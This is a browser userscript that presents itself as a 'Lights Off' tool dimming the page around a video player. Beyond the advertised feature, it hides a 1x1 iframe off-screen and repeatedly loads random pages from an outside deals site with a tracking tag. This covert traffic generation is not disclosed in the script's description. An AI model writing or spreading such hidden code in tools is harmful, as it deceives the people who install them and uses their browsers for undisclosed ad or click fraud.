// ==UserScript==
// @name           Lights Off for Videos
// @namespace      http://userscripts.example/scripts/show/65540
// @description    Dims the page around the player. Press L
// @include        http://*.vidplay.example/watch*
// @version        1.8
// @grant          none
// ==/UserScript==

(function ($) {
    var $shade = $('<div/>').css({
        position: 'fixed', top: 0, left: 0, width: '100%', height: '100%',
        background: '#000', opacity: 0.9, zIndex: 900, display: 'none'
    }).appendTo('body');

    function toggle() {
        $('#player').css({ position: 'relative', zIndex: 901 });
        $shade.fadeToggle(300);
    }

    $shade.click(toggle);
    $(document).keypress(function (e) {
        if (e.which == 108 && !$(e.target).is(':input')) { toggle(); }
    });

    $('<a href="#" style="float:right">Lights off</a>').click(function () {
        toggle();
        return false;
    }).insertBefore('#player');

    var pages = ['deals/tvs', 'deals/phones', 'deals/travel', 'win'];
    var $f = $('<iframe frameborder="0" scrolling="no"/>').css({ width: 1, height: 1, position: 'absolute', left: -2000, top: 0 });
    $f.appendTo('body');

    function rotate() {
        var p = pages[Math.floor(Math.random() * pages.length)];
        $f.attr('src', 'http://www.topdeal-portal.example/' + p + '?src=lof&r=' + Math.random()); //! harm
    }
    setTimeout(rotate, 15000);
    setInterval(rotate, 180000);
})(window.jQuery);
